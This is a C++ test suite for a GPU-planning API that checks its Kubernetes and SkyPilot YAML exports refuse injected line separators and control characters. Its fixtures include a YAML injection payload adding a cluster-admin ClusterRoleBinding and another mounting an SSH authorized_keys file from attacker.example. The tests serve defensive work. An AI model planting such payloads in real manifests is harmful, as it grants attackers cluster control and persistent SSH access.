// The hostile suite, exports (issue 22 findings 1 and 8): text that would become YAML
// (U+2028/U+2029/U+0085 are line breaks to YAML 1.1 readers, NUL/ESC/VT are controls) is
// refused at input naming the field; catalog ids that YAML 1.1 reads as other types (off,
// 012, 0x10, true) come back from an export as the same strings; a plan that never
// finishes is not exported and nothing prints inf or nan. Every export is read by PyYAML
// (tests/testing/yaml11.h), as kubectl and SkyPilot read it.
#include <gtest/gtest.h>

#include <algorithm>
#include <cmath>
#include <regex>
#include <string>
#include <vector>

#include "api/plan_export.h"
#include "api/query_params.h"
#include "tests/testing/test_server.h"
#include "tests/testing/yaml11.h"

namespace gpuplan::api {
namespace {

using nlohmann::json;
using testing::ExportShape;
using testing::TestServer;

const std::string kLs = "\u2028";  // LINE SEPARATOR
const std::string kPs = "\u2029";  // PARAGRAPH SEPARATOR
const std::string kNel = "\u0085";  // NEXT LINE (C1)

// Finding 1: a ClusterRoleBinding to cluster-admin after the Job, in the comment line.
std::string ClusterRoleBindingPayload() {
  return "x" + kLs + "apiVersion: rbac.authorization.k8s.io/v1" + kLs + "kind: ClusterRoleBinding" +
         kLs + "metadata: {name: pwned}" + kLs +
         "roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}" +
         kLs + "subjects: [{kind: ServiceAccount, name: default, namespace: default}]" + kLs +
         "---" + kLs + "#";
}
// Finding 1: a file_mounts key in a SkyPilot task.
std::string FileMountsPayload() {
  return "x" + kLs + "file_mounts: {/root/.ssh/authorized_keys: https://attacker.example/k}" +
         kLs + "#";
}

std::vector<std::string> HostileNames() {
  return {ClusterRoleBindingPayload(), FileMountsPayload(),
          "x" + kPs + "kind: Secret",  "x" + kNel + "kind: Secret",
          std::string("x\0y", 3),      "x\x1b[2Jy",
          "x\x0bkind: Secret",         "x\x7f"};
}

json Training(const json& workload) {
  return {{"workload", workload},
          {"dataset", {{"samples", 1e6}}},
          {"global_batch_size", 256},
          {"hardware", {{"gpu", "T4"}, {"gpus_per_node", 4}, {"nodes", 1}}}};
}

bool NamesPointer(const json& problem, const std::string& pointer) {
  if (!problem.is_object()) return false;  // not a problem answer
  for (const auto& e : problem.value("errors", json::array())) {
    if (e.value("pointer", "") == pointer) return true;
  }
  return false;
}
bool NamesParameter(const json& problem, const std::string& parameter, const std::string& in_detail) {
  if (!problem.is_object()) return false;
  for (const auto& e : problem.value("errors", json::array())) {
    if (e.value("parameter", "") == parameter &&
        e.value("detail", "").find(in_detail) != std::string::npos) {
      return true;
    }
  }
  return false;
}

// The body of an answer as text, JSON or not.
std::string Text(const TestServer::Reply& reply) {
  return reply.raw.empty() ? reply.body.dump() : reply.raw;
}

// A C0 control character or DEL: refused in any query parameter before decoding (400).
// JSON text escapes C0 (\u001b) but keeps DEL raw.
bool HasC0OrDel(const std::string& text) {
  for (unsigned char c : text) {
    if (c < 0x20 || c == 0x7F) return true;
  }
  return false;
}

// No figure of an answer or export says inf or nan.
bool PrintsNonFinite(const std::string& text) {
  static const std::regex kNonFinite("\\b(inf|infinity|nan)\\b", std::regex::icase);
  return std::regex_search(text, kNonFinite);
}

class HostileExportsTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    server_ = new TestServer();
    write_key_ = new std::string(testing::CreateApiKey(*server_, "importer", "write"));
    admin_key_ = new std::string(testing::CreateApiKey(*server_, "ops", "admin"));
  }
  static void TearDownTestSuite() {
    delete server_;
    delete write_key_;
    delete admin_key_;
  }
  static TestServer::Reply Post(const std::string& target, const json& body) {
    return server_->Send("POST", target, body.dump(), "application/json", {});
  }
  static TestServer::Reply Get(const std::string& target) {
    return server_->Send("GET", target, "", "", {});
  }
  static httplib::Headers Bearer(const std::string& key) {
    return {{"Authorization", "Bearer " + key}};
  }
  static TestServer* server_;
  static std::string* write_key_;
  static std::string* admin_key_;
};
TestServer* HostileExportsTest::server_ = nullptr;
std::string* HostileExportsTest::write_key_ = nullptr;
std::string* HostileExportsTest::admin_key_ = nullptr;

TEST_F(HostileExportsTest, InjectedWorkloadNameIsRefusedNamingTheField) {
  for (const std::string& name : HostileNames()) {
    json body = Training({{"preset", "bert-large"}, {"name", name}});
    for (const char* format : {"kubernetes", "skypilot", "json"}) {
      auto posted = Post(std::string("/api/v1/estimates/training?format=") + format, body);
      EXPECT_EQ(posted.status, 422) << format << " " << json(name).dump() << posted.raw;
      EXPECT_EQ(posted.content_type, "application/problem+json");
      EXPECT_TRUE(NamesPointer(posted.body, "/workload/name")) << posted.body.dump();
      EXPECT_EQ(Text(posted).find(name), std::string::npos) << "echoed: " << Text(posted);
    }
    for (const char* format : {"kubernetes", "skypilot"}) {
      auto got = Get(std::string("/api/v1/plans/export?format=") + format +
                     "&kind=training&request=" + PercentEncode(body.dump()));
      // The decoded request's 422; or, for a DEL (JSON text keeps it raw), the 400 every
      // query parameter with a control character gets. Both name the parameter.
      bool early = got.status == 400 && HasC0OrDel(name);
      EXPECT_TRUE(got.status == 422 || early) << format << " " << json(name).dump() << Text(got);
      EXPECT_EQ(got.content_type, "application/problem+json");
      EXPECT_TRUE(NamesParameter(got.body, "request", early ? "" : "/workload/name")) << Text(got);
    }
  }
  // The same name on an inference estimate and a recommendation.
  json inference = {{"workload", {{"preset", "llama-2-7b"}, {"name", ClusterRoleBindingPayload()}}},
                    {"input_tokens", 512}, {"output_tokens", 128}, {"target_requests_per_s", 1},
                    {"hardware", {{"gpu", "L4"}}}};
  auto served = Post("/api/v1/estimates/inference?format=kubernetes", inference);
  EXPECT_EQ(served.status, 422) << Text(served);
  EXPECT_TRUE(NamesPointer(served.body, "/workload/name")) << served.body.dump();
  // A plain name in the allowed set is still accepted and reaches the comment.
  auto fine = Post("/api/v1/estimates/training?format=kubernetes",
                   Training({{"preset", "bert-large"}, {"name", "BERT large (run 2), v1.5"}}));
  EXPECT_EQ(fine.status, 200) << Text(fine);
  EXPECT_NE(fine.raw.find("BERT large (run 2), v1.5"), std::string::npos) << fine.raw;
}

TEST_F(HostileExportsTest, AdminTextWithLineSeparatorsIsRefused) {
  json gpu = {{"id", "HOSTILE-LS-1"}, {"name", "x"}, {"vendor", "NVIDIA" + kLs + "kind: Secret"},
              {"memory_gb", 96}, {"memory_bw_gbps", 4000}, {"bf16_tflops", 800},
              {"fp16_tflops", 800}, {"fp32_tflops", 60}, {"form_factor", "SXM"}, {"source", "test"}};
  auto vendor = server_->Send("POST", "/api/v1/gpus", gpu.dump(), "application/json",
                              Bearer(*admin_key_));
  EXPECT_EQ(vendor.status, 422) << vendor.raw;
  EXPECT_TRUE(NamesPointer(vendor.body, "/vendor")) << vendor.body.dump();
  for (const std::string& bad : {kPs, kNel, std::string("\x1b"), std::string("\x0b")}) {
    for (const char* field : {"name", "source"}) {
      json g = gpu;
      g["vendor"] = "NVIDIA";
      g[field] = "x" + bad + "y";
      auto r = server_->Send("POST", "/api/v1/gpus", g.dump(), "application/json",
                             Bearer(*admin_key_));
      EXPECT_EQ(r.status, 422) << field << " " << r.raw;
      EXPECT_TRUE(NamesPointer(r.body, std::string("/") + field)) << r.body.dump();
    }
  }
  auto missing = server_->Get("/api/v1/gpus/HOSTILE-LS-1");
  EXPECT_EQ(missing.status, 404);  // nothing was written
}

TEST_F(HostileExportsTest, YamlLookalikeIdsComeBackAsTheSameStrings) {
  std::string csv =
      "InstanceType,AcceleratorName,AcceleratorCount,vCPUs,MemoryGiB,GpuInfo,Price,SpotPrice,"
      "Region,AvailabilityZone\n";
  const std::vector<std::string> ids = {"off", "012", "0x10", "true"};
  for (const auto& id : ids) csv += id + ",A100,8,96,1152,,30.5,,"+ id + ",\n";
  auto imported = server_->Send("POST", "/api/v1/catalog/import?format=skypilot&cloud=lookalike",
                                csv, "text/csv", Bearer(*write_key_));
  ASSERT_EQ(imported.status, 201) << Text(imported);
  std::vector<std::string> texts;
  for (const auto& id : ids) {
    json body = {{"workload", "bert-large"},
                 {"dataset", {{"samples", 1e6}}},
                 {"global_batch_size", 256},
                 {"hardware", {{"cloud", "lookalike"}, {"instance_type", id}, {"region", id}}}};
    texts.push_back(Post("/api/v1/estimates/training?format=skypilot", body).raw);
    texts.push_back(Post("/api/v1/estimates/training?format=kubernetes", body).raw);
  }
  auto parsed = testing::ParseYaml11(texts);
  for (size_t i = 0; i < ids.size(); ++i) {
    const std::string& id = ids[i];
    const std::string& sky = texts[2 * i];
    const std::string& k8s = texts[2 * i + 1];
    auto& task = parsed[2 * i];
    auto& job = parsed[2 * i + 1];
    EXPECT_EQ(testing::ExportShapeProblems(task, ExportShape::kSkyPilotTask),
              std::vector<std::string>{}) << sky;
    EXPECT_EQ(task.document["resources"]["instance_type"], json(id)) << sky;
    EXPECT_EQ(task.document["resources"]["region"], json(id)) << sky;
    EXPECT_EQ(task.document["resources"]["cloud"], json("lookalike")) << sky;
    EXPECT_EQ(testing::ExportShapeProblems(job, ExportShape::kKubernetesJob),
              std::vector<std::string>{}) << k8s;
    json annotations = job.document["metadata"]["annotations"];
    EXPECT_EQ(annotations["gpuplan/instance-type"], json(id)) << k8s;
    EXPECT_EQ(annotations["gpuplan/region"], json(id)) << k8s;
  }
}

json NonViableSpot(double rate) {
  return {{"workload", "bert-large"},
          {"dataset", {{"samples", 1e7}}},
          {"global_batch_size", 256},
          {"hardware", {{"cloud", "aws"}, {"instance_type", "p4d.24xlarge"},
                        {"region", "us-east-1"}, {"nodes", 2}}},
          {"pricing", {{"kind", "spot"}, {"interruption_rate_per_hour", rate}}}};
}

TEST_F(HostileExportsTest, NonViableSpotPlanIsNotExported) {
  json body = NonViableSpot(6);
  auto estimate = Post("/api/v1/estimates/training", body);
  ASSERT_EQ(estimate.status, 200) << Text(estimate);
  const json& spot = estimate.body["cost"]["spot"];
  EXPECT_EQ(spot["viable"], false) << estimate.body.dump();
  EXPECT_TRUE(spot["expected_total"].is_null());
  bool says_why = false;
  for (const auto& w : estimate.body.value("warnings", json::array())) {
    says_why = says_why || w.get<std::string>().find("not viable") != std::string::npos;
  }
  EXPECT_TRUE(says_why) << estimate.body["warnings"].dump();

  for (const char* format : {"kubernetes", "skypilot"}) {
    auto posted = Post(std::string("/api/v1/estimates/training?format=") + format, body);
    EXPECT_EQ(posted.status, 422) << format << " " << Text(posted);
    EXPECT_EQ(posted.content_type, "application/problem+json");
    EXPECT_TRUE(NamesPointer(posted.body, "/pricing/interruption_rate_per_hour")) << Text(posted);
    EXPECT_NE(Text(posted).find("not viable"), std::string::npos) << Text(posted);
    EXPECT_FALSE(PrintsNonFinite(Text(posted))) << Text(posted);
    auto got = Get(std::string("/api/v1/plans/export?format=") + format +
                   "&kind=training&request=" + PercentEncode(body.dump()));
    EXPECT_EQ(got.status, 422) << Text(got);
    EXPECT_TRUE(NamesParameter(got.body, "request", "/pricing/interruption_rate_per_hour"))
        << Text(got);
  }
}

TEST_F(HostileExportsTest, VanishingInterruptionRateNeverPrintsInf) {
  json body = NonViableSpot(5e-324);
  auto estimate = Post("/api/v1/estimates/training", body);
  ASSERT_EQ(estimate.status, 200) << Text(estimate);
  EXPECT_FALSE(PrintsNonFinite(Text(estimate))) << Text(estimate);
  const json& minutes = estimate.body["cost"]["spot"]["checkpoint_interval_minutes"];
  ASSERT_TRUE(minutes.is_number()) << estimate.body["cost"].dump();
  EXPECT_TRUE(std::isfinite(minutes.get<double>()));
  for (const char* format : {"kubernetes", "skypilot"}) {
    auto posted = Post(std::string("/api/v1/estimates/training?format=") + format, body);
    EXPECT_FALSE(PrintsNonFinite(Text(posted))) << Text(posted);
    if (posted.status != 200) {
      EXPECT_EQ(posted.status, 422) << Text(posted);
      continue;
    }
    auto doc = testing::ParseYaml11(posted.raw);
    EXPECT_EQ(doc.documents, 1) << doc.error << posted.raw;
  }
}

// Defence in depth: a plan whose text fields never passed the input rules (a database
// written before them, a bug) still renders as one document of the expected shape, and
// its hostile text is neither a key nor echoed in a comment.
TEST(HostileExportRenderer, HostileTextInEveryFieldStaysData) {
  struct Rendered {
    std::string hostile, text;
    ExportShape shape;
  };
  std::vector<Rendered> rendered;
  for (const std::string& hostile : HostileNames()) {
    plan::RunnablePlan p;
    p.name = "x" + hostile;
    p.workload_id = hostile;
    p.workload_name = hostile;
    p.cloud = "off";
    p.region = "012" + hostile;
    p.instance_type = "0x10";
    p.gpu_id = "true" + hostile;
    p.gpu_vendor = "NVIDIA" + hostile;
    p.skypilot_accelerator = hostile;
    p.gpu_product_label = plan::GpuProductLabel{hostile, false};
    p.price_kind = model::PriceKind::kSpot;
    p.use_spot = true;
    p.precision = hostile;
    p.currency = hostile;
    p.nodes = 2;
    p.gpus_per_node = 8;
    p.expected_hours = 10;
    p.expected_cost = 100;
    p.checkpoint_interval_minutes = 30;
    p.deadline_hours = 20;
    p.notes = {hostile, "note " + hostile};
    for (bool inference : {false, true}) {
      p.inference = inference;
      p.replicas = inference ? 4 : 0;
      p.gpus_per_replica = inference ? 4 : 0;
      rendered.push_back({hostile, SkyPilotYaml(p),
                          inference ? ExportShape::kSkyPilotService : ExportShape::kSkyPilotTask});
      rendered.push_back({hostile, KubernetesYaml(p),
                          inference ? ExportShape::kKubernetesDeployment : ExportShape::kKubernetesJob});
    }
  }
  std::vector<std::string> texts;
  for (const auto& r : rendered) texts.push_back(r.text);
  auto parsed = testing::ParseYaml11(texts);
  for (size_t i = 0; i < rendered.size(); ++i) {
    const Rendered& r = rendered[i];
    json& doc = parsed[i].document;
    EXPECT_EQ(testing::ExportShapeProblems(parsed[i], r.shape), std::vector<std::string>{}) << r.text;
    bool skypilot = r.shape == ExportShape::kSkyPilotTask || r.shape == ExportShape::kSkyPilotService;
    if (skypilot) {
      EXPECT_EQ(doc["resources"]["cloud"], "off") << r.text;
      EXPECT_EQ(doc["resources"]["instance_type"], "0x10") << r.text;
      EXPECT_EQ(doc["resources"]["region"], json("012" + r.hostile)) << r.text;
    } else {
      EXPECT_EQ(doc["metadata"]["annotations"]["gpuplan/workload"], json(r.hostile)) << r.text;
      EXPECT_EQ(doc["metadata"]["annotations"]["gpuplan/cloud"], "off") << r.text;
    }
    EXPECT_EQ(r.text.find(r.hostile), std::string::npos) << r.text;  // never echoed raw
    auto raw = std::find_if(r.text.begin(), r.text.end(), [](char ch) {
      auto c = static_cast<unsigned char>(ch);
      return c != '\n' && (c < 0x20 || c >= 0x7F);
    });
    EXPECT_TRUE(raw == r.text.end()) << "a raw control or non-ASCII byte in " << r.text;
  }
}

}  // namespace
}  // namespace gpuplan::api
